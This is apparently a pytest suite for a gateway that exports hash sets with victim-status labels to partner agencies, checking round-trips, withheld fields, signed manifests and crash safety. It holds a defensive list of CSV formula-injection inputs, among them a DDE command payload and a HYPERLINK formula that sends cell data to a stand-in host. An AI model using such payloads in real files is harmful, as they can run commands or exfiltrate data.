"""Sets as files for partners: read back by our readers, without what policy withholds, never run, on record first."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import tracemalloc
from base64 import b64decode, b64encode
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import stix2
from hypothesis import given
from hypothesis import strategies as st
from stix2validator import ValidationOptions, validate_instance
from typer.testing import CliRunner, Result

from factory import (
    START_TIME,
    FakeClock,
    befriend,
    card_of,
    drafts,
    enrol,
    events,
    make_node,
    make_set,
    reopened,
    set_state,
    sha256,
    signed_card_of,
)
from gateway import exportmanifest, ownkeys
from gateway.adapters import ReadOptions, read_hashes, sniff
from gateway.adapters.caseout import METHODS
from gateway.adapters.fields import read_moment
from gateway.adapters.guarding import SIGNS, guarded, is_risky, unguarded
from gateway.adapters.outward import WRITERS
from gateway.audit import EventKind
from gateway.cli import app
from gateway.crypto import age
from gateway.errors import (
    ConfigError,
    ConflictError,
    DeniedError,
    GatewayError,
    MalformedError,
    NotFoundError,
    OverloadedError,
    VerificationError,
)
from gateway.exchange import Exchange
from gateway.exchange.decisions import Judge
from gateway.exchange.exporting import Exported, Order, Places
from gateway.exchange.lookup import format_entry
from gateway.interchange import parse_card
from gateway.keyadmin import pause
from gateway.model import AdapterReport, EntryDraft, HandlingCode, Restriction, VictimStatus
from gateway.newfile import new_file
from partner_simulator import Network, held_entries

SET, XB = "XA-NCVI/found", "XB-NCVI"
FORMS = sorted(WRITERS)
SSDEEP = "3:AXGBicFlgVNhBGcL6wCrFQEv:AXGHsNhxLsr2C"
VPDQ = f'["{"ab" * 32},80,0.500","{"cd" * 32},90,1.000"]'
SEEN = 1_768_471_200


@dataclass
class World:
    """Two gateways that know each other, and a folder for files."""

    xa: Exchange
    xb: Exchange
    folder: Path

    @property
    def places(self) -> Places:
        return Places(self.folder / "out", self.folder / "out.note.json", self.folder / "manifest")

    def export(self, form: str, *, sealed: bool = False, **more: Any) -> Exported:
        return self.xa.exporting.export(Order(SET, XB, form, sealed, **more), self.places)

    def plain(self, *, sealed: bool) -> bytes:
        """What XB reads in the file."""
        raw = self.places.file.read_bytes()
        if not sealed:
            return raw
        assert raw.startswith(age.VERSION_LINE)
        return age.open_stream(ownkeys.opening_keys(self.xb.node), io.BytesIO(raw)).read()


@pytest.fixture
def world(tmp_path: Path) -> World:
    clock = FakeClock()
    xa, xb = (make_node(tmp_path, name, clock=clock) for name in ("XA-NCVI", XB))
    befriend(xa, xb)
    folder = tmp_path / "files"
    folder.mkdir()
    return World(Exchange(xa), Exchange(xb), folder)


def photodna(seed: int) -> bytes:
    return bytes((5 * i + seed) % 255 + 1 for i in range(144))


def entries() -> list[EntryDraft]:
    """Entries of several shapes and labels, each with all that the shape can hold."""
    every = {
        "md5": bytes(range(16)),
        "sha1": bytes(range(20)),
        "sha256": sha256("full"),
        "sha512": bytes(range(64)),
        "pdq": sha256("pdq"),
        "photodna": photodna(1),
        "ssdeep": SSDEEP.encode(),
        "vpdq": VPDQ.encode(),
    }
    words: dict[str, Any] = {
        "media_type": "image/jpeg",
        "series": 'Lake "é", summer',
        "victim_ref": "v-7",
        "seen": SEEN,
    }
    full = EntryDraft(every, "ref-full", category="vics-default:3", pdq_quality=88, evaluation="A1", **words)
    return [
        full._replace(victim_status=VictimStatus.IDENTIFIED, restrictions=(Restriction.LEGAL_HOLD,)),
        EntryDraft(
            {"md5": hashlib.md5(b"2").digest()}, "ref-2", victim_status=VictimStatus.LEAD, handling=HandlingCode.H0
        ),
        EntryDraft({"md5": hashlib.md5(b"3").digest()}, "ref-3", victim_status=VictimStatus.CLOSED, series="x"),
        EntryDraft({"photodna": photodna(9)}, "ref-4", victim_status=VictimStatus.UNIDENTIFIED),
        EntryDraft({"sha512": bytes(range(1, 65)), "md5": hashlib.md5(b"5").digest()}, "ref-5", media_type="video/mp4"),
    ]


def read_case(raw: bytes) -> list[EntryDraft]:
    """What a CASE/UCO graph says of files; no reader of ours knows it."""
    names = {method: name for name, method in METHODS.items()}
    found = []
    for node in json.loads(raw)["@graph"]:
        if node["@type"] != "uco-observable:File":
            continue
        [facet] = node["uco-core:hasFacet"]
        values = {one["uco-types:hashMethod"]: one["uco-types:hashValue"] for one in facet["uco-observable:hash"]}
        assert {value["@type"] for value in values.values()} == {"xsd:hexBinary"}
        tags = [tag.partition(":")[::2] for tag in node["uco-core:tag"]]
        one = dict(tags)
        draft = EntryDraft(
            {names[method]: bytes.fromhex(value["@value"]) for method, value in values.items()},
            node["@id"],
            media_type=facet.get("uco-observable:mimeType", ""),
            category=one["category"],
            series=one.get("series", ""),
            victim_ref=one.get("victim-ref", ""),
            victim_status=VictimStatus(one["victim-status"]) if "victim-status" in one else None,
            evaluation=one["evaluation"],
            handling=HandlingCode(one["handling"]),
            restrictions=tuple(Restriction(value) for name, value in tags if name == "restriction"),
            pdq_quality=int(one.get("pdq-quality", 0)),
            seen=read_moment(one.get("seen", ""), ""),
        )
        found.append(draft)
    return found


def read_back(raw: bytes, form: str) -> list[EntryDraft]:
    if form == "case":
        return read_case(raw)
    assert sniff(raw[:1024]) == form
    report = AdapterReport(form)
    found = list(read_hashes(io.BytesIO(raw), form, report, options=ReadOptions("vics-default")))
    assert report.refused == 0, report.refused_rows
    return found


# There and back


CARRIED = {
    "gateway_csv": {"digests": None, "fields": None},
    "case": {"digests": {"md5", "sha1", "sha256", "sha512", "pdq", "photodna"}, "fields": None},
    "icse_csv": {"digests": {"md5", "sha1", "photodna"}, "fields": {"media_type", "series", "victim_status"}},
    "vics": {"digests": None, "fields": {"media_type", "series", "victim_status", "seen", "category"}},
    "stix": {"digests": {"md5", "sha1", "sha256", "sha512", "ssdeep", "pdq", "photodna"}, "fields": None},
}
FIELDS = (
    *("media_type", "category", "series", "victim_ref", "victim_status", "evaluation", "handling", "restrictions"),
    *("pdq_quality", "seen"),
)
FLAG = {
    VictimStatus.LEAD: VictimStatus.UNIDENTIFIED,
    VictimStatus.SAFEGUARDED: VictimStatus.IDENTIFIED,
    VictimStatus.CLOSED: None,
    VictimStatus.UNKNOWN: None,
}


def expected(form: str, *, sealed: bool) -> list[dict[str, Any]]:
    """What a reader of this form makes of `entries()`, as XB may see them."""
    found = []
    for draft in entries():
        known = {name: getattr(draft, name) for name in FIELDS}
        known["category"] = draft.category or "icse:1"
        known["handling"] = draft.handling or HandlingCode.H1
        known["evaluation"] = draft.evaluation or "B2"
        known["victim_status"] = draft.victim_status or VictimStatus.UNKNOWN
        digests = dict(draft.digests)
        if not sealed:
            known |= {"victim_status": None, "victim_ref": "", "pdq_quality": 0}
            for name in ("pdq", "photodna", "ssdeep", "vpdq"):
                digests.pop(name, None)
        carried = CARRIED[form]
        if carried["digests"] is not None:
            digests = {name: value for name, value in digests.items() if name in carried["digests"]}
        if carried["fields"] is not None:
            empty = EntryDraft({})
            known = {
                name: value if name in carried["fields"] else getattr(empty, name) for name, value in known.items()
            }
            known["victim_status"] = FLAG.get(known["victim_status"], known["victim_status"])
            if not known["category"].startswith("vics-default:"):
                known["category"] = ""
        if digests:
            found.append({"digests": digests, **known})
    return found


def key(one: dict[str, Any]) -> str:
    return repr(sorted(one["digests"].items()))


@pytest.mark.parametrize("sealed", [False, True])
@pytest.mark.parametrize("form", FORMS)
def test_a_file_is_read_back_as_what_the_partner_may_see(world: World, form: str, sealed: bool) -> None:
    make_set(world.xa, "found", entries())
    done = world.export(form, sealed=sealed)
    found = read_back(world.plain(sealed=sealed), form)
    seen = [{"digests": dict(one.digests), **{name: getattr(one, name) for name in FIELDS}} for one in found]
    wanted = expected(form, sealed=sealed)
    assert sorted(seen, key=key) == sorted(wanted, key=key)
    assert done.entries == len(wanted)
    assert done.left_out == len(entries()) - len(wanted)


@pytest.mark.parametrize("form", FORMS)
def test_a_later_file_speaks_of_the_same_entry(world: World, form: str) -> None:
    make_set(world.xa, "found", entries()[:3] if form == "icse_csv" else drafts(3))
    world.export(form)
    first = {one.source_ref for one in read_back(world.plain(sealed=False), form)}
    assert len(first) == 3
    assert not any("ref" in one for one in first)
    for place in (world.places.file, world.places.note, world.places.manifest):
        place.unlink()
    world.xa.ledger.import_entries(SET, [EntryDraft({"md5": sha256("new")[:16]}, "ref-new")], actor="t", form="test")
    world.export(form)
    assert first < {one.source_ref for one in read_back(world.plain(sealed=False), form)}


def test_a_vics_file_is_what_strict_readers_take(world: World) -> None:
    make_set(world.xa, "found", entries())
    world.export("vics", sealed=True)
    raw = world.plain(sealed=True)
    value = json.loads(raw)
    assert list(value) == ["@odata.context", "value"]
    assert "/Default/$metadata#Media" in value["@odata.context"]
    assert b"null" not in raw
    first = value["value"][0]
    assert isinstance(first["MediaID"], int)
    assert first["Category"] == 3
    assert first["MD5"] == bytes(range(16)).hex().upper()
    assert len(first["PhotoDNA"]) == 192
    assert list(first["AlternativeHashes"][0]) == ["HashName", "HashValue"]


def test_a_number_of_another_scheme_is_left_out_and_counted(world: World) -> None:
    make_set(world.xa, "found", entries())
    done = world.export("vics", category_scheme="icse")
    values = json.loads(world.plain(sealed=False))["value"]
    assert sorted(one.get("Category", -1) for one in values) == [-1, 1, 1, 1]
    assert done.not_carried["category"] == 1


def test_a_stix_bundle_is_one_to_other_peoples_parsers(world: World) -> None:
    make_set(world.xa, "found", entries())
    world.export("stix", sealed=True)
    value = json.loads(world.plain(sealed=True))
    assert stix2.parse(value, allow_custom=False)["type"] == "bundle"
    result = validate_instance(value, ValidationOptions(strict=True, version="2.1"))
    assert result.is_valid, [str(error) for error in result.errors]


def test_a_case_graph_conforms_to_the_ontology(world: World) -> None:
    make_set(world.xa, "found", entries())
    world.export("case", sealed=True)
    graph = world.folder / "graph.jsonld"
    graph.write_bytes(world.plain(sealed=True))
    validator = Path(sys.executable).with_name("case_validate")  # PyPI case-utils; it has the ontology with it
    command = [validator, "--built-version", "case-1.5.0", "--allow-info", str(graph)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout


# Nothing that is withheld


def spellings(value: bytes) -> list[bytes]:
    found = [value]
    if len(value) >= 16:
        found += [value.hex().encode(), value.hex().upper().encode(), b64encode(value)]
    return found


def marked(handling: HandlingCode) -> tuple[EntryDraft, list[bytes], list[bytes]]:
    """An entry whose every value is its own; what may go over TLS alone under H0 and H1, and what may not."""
    digests = {name: hashlib.sha512(f"{name} {handling}".encode()).digest()[:size] for name, size in SIZES.items()}
    draft = EntryDraft(
        digests,
        f"our-reference-{handling}",
        series=f"series-{handling}-q",
        victim_ref=f"victim-{handling}-q",
        victim_status=VictimStatus.SAFEGUARDED,
        category=f"only:{handling}-kqzv",
        handling=handling,
        pdq_quality=90,
    )
    free = [digests["md5"], draft.series.encode()]
    kept = [digests["pdq"], draft.victim_ref.encode(), b"safeguarded", draft.source_ref.encode()]
    return draft, free, kept


SIZES = {"md5": 16, "sha1": 20, "pdq": 32}


@pytest.mark.parametrize("sealed", [False, True])
@pytest.mark.parametrize("form", FORMS)
def test_nothing_that_policy_withholds_is_in_the_file_or_the_note(world: World, form: str, sealed: bool) -> None:
    every = [marked(code) for code in HandlingCode]
    make_set(world.xa, "found", [draft for draft, _, _ in every])
    done = world.export(form, sealed=sealed)
    told = world.plain(sealed=sealed) + world.places.note.read_bytes()
    told += b"".join(_payload(line) for line in world.places.note.read_bytes().splitlines())
    for draft, free, kept in every:
        # Sealed: H0 to H2, of H2 no perceptual digest. Over TLS alone: H0 and H1.
        goes = draft.handling in ((HandlingCode.H0, HandlingCode.H1), tuple(HandlingCode)[:3])[sealed]
        assert all(any(one in told for one in spellings(value)) for value in free) == goes, draft.handling
        hidden = [draft.source_ref.encode()] if sealed and goes else kept
        hidden += [draft.digests["pdq"]] if draft.handling is HandlingCode.H2 else []
        hidden += [] if goes else [draft.category.encode(), *free]
        if sealed:
            hidden = [one for one in hidden if one != b"safeguarded"]
        assert not any(one in told for value in hidden for one in spellings(value)), draft.handling
    assert done.entries == (3 if sealed else 2)
    assert done.withheld["series"] == (1 if sealed else 2)


def _payload(line: bytes) -> bytes:
    return b64decode(json.loads(line)["payload"])


def test_the_manifest_says_what_was_left_out_by_label_and_why_and_holds_no_value(world: World) -> None:
    every = [marked(code) for code in HandlingCode]
    make_set(world.xa, "found", [draft for draft, _, _ in every])
    done = world.export("gateway_csv")
    raw = world.places.manifest.read_bytes()
    found = exportmanifest.verify_manifest(raw, card_of(world.xa.node).signing)
    assert hashlib.sha256(raw).hexdigest() == done.manifest_digest
    assert (found.said["recipient"], found.said["surface"], found.said["entries"]) == (XB, "tls_only", 2)
    assert found.said["policy"] == world.xa.node.policy.digest
    by_code = {one["attributes"]["handling"]: one for one in found.labels}  # type: ignore[index]  # an object
    assert {code: one["written"] for code, one in by_code.items()} == {"H0": 1, "H1": 1, "H2": 0, "H3": 0}
    withheld = {one["group"]: one for one in by_code["H1"]["withheld"]}  # type: ignore[attr-defined]  # a list
    assert sorted(withheld) == ["perceptual_digests", "victim_status"]
    assert withheld["perceptual_digests"]["rules"] == ["fed-tls-only-no-child"]
    assert (withheld["perceptual_digests"]["entries"], withheld["perceptual_digests"]["reason"]) == (1, "forbidden")
    assert {one["group"] for one in by_code["H2"]["withheld"]} >= {"existence", "cryptographic_digests", "series"}  # type: ignore[attr-defined]  # a list
    with world.xa.node.store.reading() as tx:
        leaves = {row.index for row in tx.log.of_kinds([EventKind.SHARE_DECIDED])}
    assert {one["receipt"] for one in found.labels} <= leaves
    for draft, _, _ in every:
        values = [*draft.digests.values(), draft.series.encode(), draft.victim_ref.encode(), draft.source_ref.encode()]
        assert not any(one in raw + _payload(raw.split(b"\n")[0]) for value in values for one in spellings(value))


def test_every_decision_behind_a_file_is_decided_again_as_it_was(world: World) -> None:
    make_set(world.xa, "found", [marked(code)[0] for code in HandlingCode])
    for sealed in (False, True):
        world.export("stix", sealed=sealed)
        for place in (world.places.file, world.places.note, world.places.manifest):
            place.unlink()
    world.export("vics")
    with world.xa.node.store.reading() as tx:
        judge = Judge(tx)
        again = [judge.decide_again(leaf) for leaf in judge.receipts()]
    # Once for each label and surface, not for each file.
    assert sorted(str(one.details["surface"]) for one in again) == ["sealed"] * 4 + ["tls_only"] * 4
    assert all(one.same for one in again)


def test_the_note_says_what_is_in_the_file_and_which_duties_come_with_it(world: World) -> None:
    make_set(world.xa, "found", [marked(code)[0] for code in HandlingCode])
    done = world.export("gateway_csv", sealed=True)
    found = exportmanifest.verify_note(world.places.note.read_bytes(), card_of(world.xa.node).signing)
    raw = world.places.file.read_bytes()
    found.check_file(size=len(raw), sha256=hashlib.sha256(raw).hexdigest())
    assert (found.said["entries"], found.said["handling"]) == (3, ["H0", "H1", "H2"])
    assert found.said["duties"] == list(done.duties)
    assert "retain_days(365)" in done.duties
    assert set(found.said) == exportmanifest.NOTE_MEMBERS


def test_a_sealed_file_opens_for_its_recipient_alone(world: World) -> None:
    make_set(world.xa, "found", entries())
    world.export("vics", sealed=True)
    assert world.plain(sealed=True).startswith(b"{")
    with pytest.raises(VerificationError):
        age.open_stream(ownkeys.opening_keys(world.xa.node), io.BytesIO(world.places.file.read_bytes()))


# Proof


def test_a_manifest_or_note_that_was_changed_anywhere_is_refused(world: World) -> None:
    make_set(world.xa, "found", entries())
    world.export("gateway_csv")
    signing = card_of(world.xa.node).signing
    for place, verify in (
        (world.places.manifest, exportmanifest.verify_manifest),
        (world.places.note, exportmanifest.verify_note),
    ):
        raw = place.read_bytes()
        verify(raw, signing)
        for at in [*range(0, len(raw), 97), len(raw) - 1]:
            changed = raw[:at] + bytes([raw[at] ^ 1]) + raw[at + 1 :]
            with pytest.raises((MalformedError, VerificationError)):
                verify(changed, signing)
        for cut in (raw[:-1], raw + b"\n", raw.split(b"\n")[0][:-1]):
            with pytest.raises((MalformedError, VerificationError)):
                verify(cut, signing)
        with pytest.raises(VerificationError):
            verify(raw, card_of(world.xb.node).signing)


def test_a_note_is_no_manifest_and_neither_speaks_of_another_file(world: World) -> None:
    make_set(world.xa, "found", entries())
    world.export("gateway_csv")
    signing = card_of(world.xa.node).signing
    with pytest.raises(VerificationError):
        exportmanifest.verify_manifest(world.places.note.read_bytes(), signing)
    found = exportmanifest.verify_manifest(world.places.manifest.read_bytes(), signing)
    with pytest.raises(VerificationError):
        found.check_file(size=1, sha256=hashlib.sha256(b"x").hexdigest())


def test_the_log_tells_of_the_file(world: World) -> None:
    make_set(world.xa, "found", entries())
    done = world.export("icse_csv")
    [event] = events(world.xa.node, EventKind.FILE_EXPORTED)
    raw = world.places.file.read_bytes()
    assert event.subject == SET
    assert event.details["digest"] == hashlib.sha256(raw).hexdigest() == done.digest
    assert event.details["manifest_digest"] == hashlib.sha256(world.places.manifest.read_bytes()).hexdigest()
    assert (event.details["partner"], event.details["form"], event.details["surface"]) == (XB, "icse_csv", "tls_only")
    assert (event.details["entries"], event.details["left_out"]) == (done.entries, done.left_out)
    assert event.details["withheld"] == dict(done.withheld)


# Spreadsheets

ATTACKS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x.example/?"&A1,"y")', "=cmd|' /C calc'!A0", "-2+3"),
    *(" =1+1", '"=1+1"', "'=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", "a;=1+1", "a,=1", 'a";=1', 'a"",-1'),
    *("x|@A1", "100%", "=%3D", "%3D1", "%", "=%", "a; '=1", "a\u00a0=1;\u00a0=2", "=\u00e9\u4e16", "--", "=", "@"),
]


def runs(cell: str) -> bool:
    """Whether some spreadsheet might take a cell for a formula, however it strips it."""
    stripped = cell.strip().lstrip("\"'").strip()
    return stripped[:1] in SIGNS and stripped != ""


def cells_of(raw: bytes) -> list[str]:
    """Every cell that a file has, with whatever separator it is opened, quoted or not."""
    text = raw.decode()
    found = []
    for separator in ",;\t|:":
        found += [cell for line in text.splitlines() for cell in line.split(separator)]
        found += [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
    return found


@pytest.mark.parametrize("form", ["gateway_csv", "icse_csv"])
def test_no_spreadsheet_runs_anything_in_a_file(world: World, form: str) -> None:
    rows = [
        EntryDraft({"md5": hashlib.md5(text.encode()).digest()}, f"r{number}", series=text, victim_ref=text[::-1])
        for number, text in enumerate(ATTACKS)
    ]
    rows += [EntryDraft({"md5": hashlib.md5(text.encode() + b"m").digest()}, media_type=text) for text in ATTACKS]
    rows += [EntryDraft({"md5": hashlib.md5(b"c").digest()}, "c", category="-x:1")]
    make_set(world.xa, "found", rows)
    done = world.export(form, sealed=True)
    raw = world.plain(sealed=True)
    assert not [cell for cell in cells_of(raw) if runs(cell)]
    found = {one.digests["md5"]: one for one in read_back(raw, form)}
    assert len(found) == len(rows)
    if form == "gateway_csv":
        for row in rows:
            read = found[row.digests["md5"]]
            said = (row.series, row.victim_ref, row.media_type, row.category or "icse:1")
            # Space around a cell is no part of it.
            assert (read.series, read.victim_ref, read.media_type, read.category) == tuple(map(str.strip, said))
    else:
        risky = sum(map(is_risky, ATTACKS))
        assert (done.not_carried["series"], done.not_carried["media_type"]) == (risky, risky)
        assert all(one.series in ATTACKS for one in found.values() if one.series)


@given(st.text(st.sampled_from(f"{SIGNS}ab%;,|\"' :2DéF"), max_size=12))
def test_a_guarded_text_is_run_by_nobody_and_read_back(text: str) -> None:
    assert unguarded(guarded(text), "series") == text
    assert not is_risky(guarded(text))
    assert is_risky(text) or not any(runs(cell) for separator in ",;|" for cell in text.split(separator))


@pytest.mark.parametrize(
    ("names", "cell"),
    [("series", "50%"), ("series", "%FF"), ("series", "%3d1"), ("sha1", "x"), ("nothing", "x"), ("series|", "%3D")],
)
def test_a_row_that_is_not_guarded_as_it_says_is_refused_alone(names: str, cell: str) -> None:
    good = hashlib.md5(b"good").hexdigest()
    raw = f"md5,series,guarded\n{good},%3D1,series\n{hashlib.md5(b'bad').hexdigest()},{cell},{names}\n".encode()
    report = AdapterReport("gateway_csv")
    found = list(read_hashes(io.BytesIO(raw), "gateway_csv", report))
    assert [one.series for one in found] == ["=1"]
    assert report.refused == 1
    assert cell not in report.refused_rows[0].reason


def test_a_file_of_version_1_is_read_as_ever() -> None:
    raw = f"md5,series\n{hashlib.md5(b'1').hexdigest()},%3D1\n".encode()
    assert [one.series for one in read_hashes(io.BytesIO(raw), "gateway_csv", AdapterReport("x"))] == ["%3D1"]


# On record first


def killed(world: World, hook: str, at: int) -> None:
    """Export in a process that ends at a commit, as if it was killed there."""
    pid = os.fork()
    if pid == 0:
        try:
            node = reopened(world.xa.node)
            count = 0

            def met() -> None:
                nonlocal count
                count += 1
                if count == at:
                    os._exit(9)

            setattr(node.store, hook, met)
            Exchange(node).exporting.export(Order(SET, XB, "gateway_csv"), world.places)
        finally:
            os._exit(1)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 9


@pytest.mark.parametrize(("hook", "at", "leaves"), [("before_commit", 2, 0), ("after_commit", 2, 1)])
def test_a_crash_leaves_no_file_without_its_leaf(world: World, hook: str, at: int, leaves: int) -> None:
    make_set(world.xa, "found", entries())
    killed(world, hook, at)
    assert len(events(world.xa.node, EventKind.FILE_EXPORTED)) == leaves
    assert not [place for place in world.folder.iterdir() if not place.name.endswith(".part")]
    # What was cut off is swept away by the next, which begins anew.
    world.export("gateway_csv")
    assert sorted(place.name for place in world.folder.iterdir()) == ["manifest", "out", "out.note.json"]
    assert world.places.file.stat().st_mode & 0o777 == 0o600


def test_a_draft_that_somebody_writes_is_left_alone(tmp_path: Path) -> None:
    with new_file(tmp_path / "one", "file") as first:
        first.write(b"first")
        with new_file(tmp_path / "one", "file") as second:
            second.write(b"second")
        (tmp_path / "one").unlink()
    assert (tmp_path / "one").read_bytes() == b"first"


def test_of_two_that_write_one_name_the_later_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError), new_file(tmp_path / "one", "file") as first:  # noqa: PT012 - it fails at its end
        first.write(b"first")
        (tmp_path / "one").write_bytes(b"second")
    assert (tmp_path / "one").read_bytes() == b"second"
    assert [place.name for place in tmp_path.iterdir()] == ["one"]


def test_a_failure_in_the_middle_leaves_nothing(world: World) -> None:
    make_set(world.xa, "found", entries())

    def fail(_done: int, _all: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        world.xa.exporting.export(Order(SET, XB, "vics"), world.places, fail)
    assert list(world.folder.iterdir()) == []
    assert events(world.xa.node, EventKind.FILE_EXPORTED) == []


def meanwhile(world: World, deed: Callable[[], object]) -> None:
    done = False

    def told(_done: int, _all: int) -> None:
        nonlocal done
        if not done:
            done = True
            deed()

    world.xa.exporting.export(Order(SET, XB, "vics"), world.places, told)


def test_what_is_withdrawn_while_the_file_is_written_does_not_leave(world: World) -> None:
    make_set(world.xa, "found", drafts(5))
    entry = 1 << 48 | 1
    with pytest.raises(ConflictError):
        meanwhile(world, lambda: world.xa.ledger.withdraw(SET, [entry], actor="t", reason="wrong"))
    assert list(world.folder.iterdir()) == []
    assert events(world.xa.node, EventKind.FILE_EXPORTED) == []


def test_what_comes_while_the_file_is_written_stops_nothing(world: World) -> None:
    make_set(world.xa, "found", drafts(5))
    more = drafts(3, first=10)
    meanwhile(world, lambda: world.xa.ledger.import_entries(SET, more, actor="t", form="test"))
    assert len(json.loads(world.plain(sealed=False))["value"]) == 5


def test_a_partner_that_is_suspended_meanwhile_gets_nothing(world: World) -> None:
    make_set(world.xa, "found", drafts(5))
    with pytest.raises(NotFoundError):
        meanwhile(world, lambda: set_state(world.xa.node, XB, "suspended"))
    assert list(world.folder.iterdir()) == []


# Who gets nothing


def refused(world: World, kind: type[GatewayError], order: Order) -> GatewayError:
    with pytest.raises(kind) as caught:
        world.xa.exporting.export(order, world.places)
    assert list(world.folder.iterdir()) == []
    assert events(world.xa.node, EventKind.FILE_EXPORTED) == []
    return caught.value


def test_an_unknown_partner_an_unknown_set_and_an_unknown_form_are_refused(world: World) -> None:
    make_set(world.xa, "found", drafts(1))
    assert "partner list" in refused(world, NotFoundError, Order(SET, "XC-NCVI", "vics")).remedy
    with pytest.raises(NotFoundError, match="no such partner") as told:
        world.xa.card_of("XC-NCVI")
    assert "partner list" in told.value.remedy
    set_state(world.xa.node, XB, "suspended")
    assert "this partner is suspended" in str(refused(world, NotFoundError, Order(SET, XB, "vics")))
    set_state(world.xa.node, XB, "active")
    refused(world, NotFoundError, Order("XA-NCVI/absent", XB, "vics"))
    refused(world, MalformedError, Order(SET, XB, "xlsx"))
    refused(world, MalformedError, Order(SET, XB, "vics", category_scheme="a scheme"))


def test_while_exchange_is_paused_no_file_goes_out(world: World) -> None:
    make_set(world.xa, "found", drafts(1))
    pause(world.xa.node, XB)
    refused(world, OverloadedError, Order(SET, XB, "vics"))


def test_where_policy_shows_nothing_there_is_no_file_and_the_refusal_is_on_record(world: World) -> None:
    make_set(world.xa, "found", drafts(2), handling=HandlingCode.H2)
    error = refused(world, DeniedError, Order(SET, XB, "vics"))
    assert "--sealed" in error.remedy
    [event] = events(world.xa.node, EventKind.SHARE_DECIDED)
    assert (event.details["outcome"], event.details["surface"]) == ("deny", "tls_only")
    world.export("vics", sealed=True)


def test_a_partner_under_test_gets_sets_of_invented_data_only(tmp_path: Path) -> None:
    clock = FakeClock()
    xa = make_node(tmp_path, "XA-NCVI", clock=clock, quorum=2)
    xb = make_node(tmp_path, XB, clock=clock)
    enrol(xa, card_of(xb), test=True)
    world = World(Exchange(xa), Exchange(xb), tmp_path / "files")
    world.folder.mkdir()
    make_set(world.xa, "found", drafts(1))
    make_set(world.xa, "test-found", drafts(1))
    refused(world, DeniedError, Order(SET, XB, "vics"))
    assert world.xa.exporting.export(Order("XA-NCVI/test-found", XB, "vics"), world.places).entries == 1


async def test_what_a_partner_shared_goes_out_in_no_file_of_ours(tmp_path: Path) -> None:
    network, clock = Network(), FakeClock()
    nodes = [make_node(tmp_path, name, clock=clock) for name in ("XA-NCVI", XB, "XC-NCVI")]
    befriend(*nodes)
    xa, xb, _ = (network.join(node) for node in nodes)
    make_set(xa, "found", drafts(3), handling=HandlingCode.H0, onward=("XC",))
    await network.sync(XB, "XA-NCVI").pull()
    assert len(held_entries(xb, SET)) == 3
    (tmp_path / "files").mkdir()
    world = World(xb, xa, tmp_path / "files")
    for partner in ("XA-NCVI", "XC-NCVI"):
        refused(world, DeniedError, Order(SET, partner, "vics", sealed=True))


def test_no_file_is_written_over(world: World) -> None:
    make_set(world.xa, "found", drafts(1))
    for place in (world.places.file, world.places.note, world.places.manifest):
        place.write_bytes(b"somebody's")
        with pytest.raises(ConfigError):
            world.export("vics")
        assert place.read_bytes() == b"somebody's"
        assert [found.name for found in world.folder.iterdir()] == [place.name]
        place.unlink()


def test_replaced_and_withdrawn_entries_are_in_no_file(world: World) -> None:
    make_set(world.xa, "found", drafts(3))
    moved = [drafts(1)[0]._replace(series="now in a series")]
    world.xa.ledger.import_entries(SET, moved, actor="t", form="test")
    world.xa.ledger.withdraw(SET, [1 << 48 | 2], actor="t", reason="wrong")
    world.export("gateway_csv")
    found = read_back(world.plain(sealed=False), "gateway_csv")
    assert {one.digests["sha256"]: one.series for one in found} == {
        sha256("made-up 0"): "now in a series",
        sha256("made-up 2"): "",
    }


@pytest.mark.parametrize("form", FORMS)
def test_a_set_of_many_blocks_comes_whole(world: World, form: str) -> None:
    make_set(world.xa, "found")
    for first in range(0, 9_000, 3_000):
        some = [
            EntryDraft({"md5": sha256(f"m{number}")[:16]}, f"r{number}", category=f"icse:{number % 3}")
            for number in range(first, first + 3_000)
        ]
        world.xa.ledger.import_entries(SET, some, actor="t", form="test")
    steps: list[tuple[int, int]] = []
    done = world.xa.exporting.export(Order(SET, XB, form), world.places, lambda *step: steps.append(step))
    found = read_back(world.plain(sealed=False), form)
    assert {one.digests["md5"] for one in found} == {sha256(f"m{number}")[:16] for number in range(9_000)}
    assert done.entries == len(found) == 9_000
    assert steps[-1] == (9_000, 9_000)


def test_a_file_of_any_size_takes_the_same_memory(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    at_once = 4096
    monkeypatch.setattr("gateway.exchange.contents.READ_AT_ONCE", at_once)
    peaks = []
    for name, blocks in (("few", 3), ("many", 24)):
        full = make_set(world.xa, name)
        for first in range(0, blocks * at_once, at_once):
            some = [
                EntryDraft({"md5": sha256(f"m{number}")[:16], "sha512": 2 * sha256(f"{number}")}, f"r{number}")
                for number in range(first, first + at_once)
            ]
            world.xa.ledger.import_entries(full, some, actor="t", form="test")
        with world.xa.shelf.reading(world.xa.node.store) as tx, world.xa.shelf.index(tx, tx.sets.get(full).id or 0):
            pass  # what is resident anyhow is so before it is measured
        places = Places(*(world.folder / f"{name}.{kind}" for kind in ("file", "note", "manifest")))
        tracemalloc.start()
        world.xa.exporting.export(Order(full, XB, "icse_csv"), places)
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    # A byte for each entry says which of them count.
    assert peaks[1] < 1.1 * peaks[0] + 21 * at_once, peaks


def test_an_entry_id_is_written_as_people_write_it(world: World) -> None:
    make_set(world.xa, "found", drafts(1))
    world.export("gateway_csv")
    [row] = csv.DictReader(io.StringIO(world.plain(sealed=False).decode()))
    assert row["source_ref"] == format_entry(1 << 48 | 1)


def test_the_card_that_verifies_is_the_one_that_is_handed_out(world: World) -> None:
    make_set(world.xa, "found", drafts(1))
    world.export("vics")
    card = parse_card(signed_card_of(world.xa.node))
    said = exportmanifest.verify_manifest(world.places.manifest.read_bytes(), card.signing).said
    assert said["created"] == START_TIME
    assert said["recipient_keys"] == []


# By hand


def gateway(*arguments: str, exit_code: int = 0) -> Result:
    result = CliRunner().invoke(app, list(arguments), prog_name="gateway")
    assert result.exit_code == exit_code, (arguments, result.exit_code, result.stdout, result.stderr)
    return result


